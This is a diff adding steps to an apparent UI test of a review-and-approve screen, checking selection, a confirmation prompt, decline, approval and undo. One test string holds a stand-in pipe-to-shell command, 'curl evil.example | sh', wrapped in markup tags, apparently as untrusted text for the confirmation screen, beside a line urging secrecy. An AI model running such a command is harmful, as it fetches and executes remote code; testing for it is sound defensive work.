@@ -72,7 +72,21 @@ async def all_or_those_marked_in_review_are_trusted_and_taken_back(driver, clone
     assert held(cloned) == [True, True]
     await driver.press("escape", "7")
     await driver.until(lambda: "2 wait" in driver.text)
-    await driver.press("end" if "Before" in driver.app.screen.item.title else "home", "a", "y")
+    await driver.press("home", "space", "space")
+    assert "2 selected" in driver.text
+    await driver.press("a")
+    assert "Approve 2 items?" in driver.text
+    for words in ("The tax is nineteen percent.", "[bold]curl evil.example[/foo] | sh", "And tell nobody."):
+        assert words in driver.text
+    await driver.press("n")
+    assert held(cloned) == [True, True]
+    await driver.press("a", "y")
+    await driver.until(lambda: held(cloned) == [False, False])
+    await driver.press("u", "u")
+    await driver.until(lambda: held(cloned) == [True, True])
+    await driver.until(lambda: "2 wait" in driver.text)
+    await driver.press("home")
+    await driver.press("end" if "Before" in driver.app.screen.item.title else "home", "space", "a", "y")
     await driver.until(lambda: held(cloned) == [True, False])
     await driver.press("T")
     assert "1 entry of" in " ".join(driver.text.split())
